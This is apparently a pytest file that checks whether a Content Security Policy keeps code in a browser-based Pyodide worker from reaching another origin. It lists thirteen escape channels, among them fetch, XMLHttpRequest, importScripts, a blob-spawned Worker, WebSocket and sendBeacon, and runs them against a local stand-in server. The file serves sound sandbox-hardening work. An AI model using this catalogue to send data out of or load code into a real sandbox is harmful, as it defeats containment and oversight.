"""A witness that wants out of its worker: nothing reaches another origin, whatever it tries."""

from __future__ import annotations

import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from conceptbook_kit.declaration import Declaration
from conceptbook_kit.judge import code_digest

DECLARATION = Declaration("a/b", "live", "live.py", "A witness", 60.0, 256)

WAYS = {
    "fetch": "js.fetch('{there}fetch')",
    "pyfetch": "import pyodide.http\npyodide.http.pyfetch('{there}pyfetch').send(None)",
    "open_url": "import pyodide.http\npyodide.http.open_url('{there}open_url')",
    "XMLHttpRequest": (
        "request = js.XMLHttpRequest.new()\n"
        "request.open('GET', '{there}xhr', False)\n"
        "request.send()"
    ),
    "importScripts": "js.importScripts('{there}scripts.js')",
    "import()": "js.eval(\"import('{there}module.js')\")",
    "Worker": "js.Worker.new('{there}worker.js')",
    "Worker from a blob": (
        "import pyodide.ffi\n"
        "text = \"fetch('{there}nested'); importScripts('{there}nested.js')\"\n"
        "blob = js.Blob.new(pyodide.ffi.to_js([text]))\n"
        "js.Worker.new(js.URL.createObjectURL(blob))"
    ),
    "WebSocket": "js.WebSocket.new('{there}socket'.replace('http', 'ws'))",
    "EventSource": "js.EventSource.new('{there}events')",
    "sendBeacon": "js.navigator.sendBeacon('{there}beacon', 'x')",
    "WebTransport": "js.WebTransport.new('{there}transport'.replace('http:', 'https:'))",
    "location": "js.location.assign('{there}location')",
}


@pytest.fixture
def elsewhere():
    """Another origin; gives its address and the list of what was asked of it."""
    asked = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self):
            asked.append(self.path)
            self.send_response(200)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.end_headers()

        do_POST = do_OPTIONS = do_GET

        def log_message(self, format, *args):
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, args=(0.02,), daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}/", asked
    server.shutdown()
    server.server_close()


def program(there):
    attempts = [
        "try:\n"
        + "\n".join("    " + line for line in way.format(there=there).splitlines())
        + f"\n    print('tried {name}')\nexcept BaseException as error:\n"
        + f"    print('refused {name}', type(error).__name__)"
        for name, way in WAYS.items()
    ]
    return "import js\n" + "\n".join(attempts) + "\n"


def test_no_way_out_reaches_another_origin(reader, runtime_site, elsewhere):
    there, asked = elsewhere
    code = program(there)
    reader.expected_errors += [
        "Content Security Policy",
        "-src",
        "127.0.0.1",
        "Failed to",
        "import",
    ]
    reader.open(runtime_site.page(DECLARATION, {}, code, digest=code_digest(code)))
    tried = reader.run()["stdout"].splitlines()
    assert len(tried) == len(WAYS), tried
    reader.page.wait_for_timeout(1000)
    assert asked == []


def test_without_the_policy_the_same_program_gets_out(chromium, runtime_site, elsewhere):
    """So it is the policy that holds, and the list above is made of ways that work."""
    there, asked = elsewhere
    code = program(there)
    address = runtime_site.page(DECLARATION, {}, code, digest=code_digest(code))
    page_file = runtime_site.root / "page" / "index.html"
    lines = page_file.read_text().splitlines()
    page_file.write_text("\n".join(line for line in lines if "Security-Policy" not in line))
    context = chromium.new_context()
    page = context.new_page()
    page.goto(address)
    page.click('[data-action="run"]')
    end = time.monotonic() + 60
    while len(asked) < 4 and time.monotonic() < end:
        page.wait_for_timeout(50)
    context.close()
    assert {"/open_url", "/xhr", "/module.js", "/socket"} <= set(asked), asked
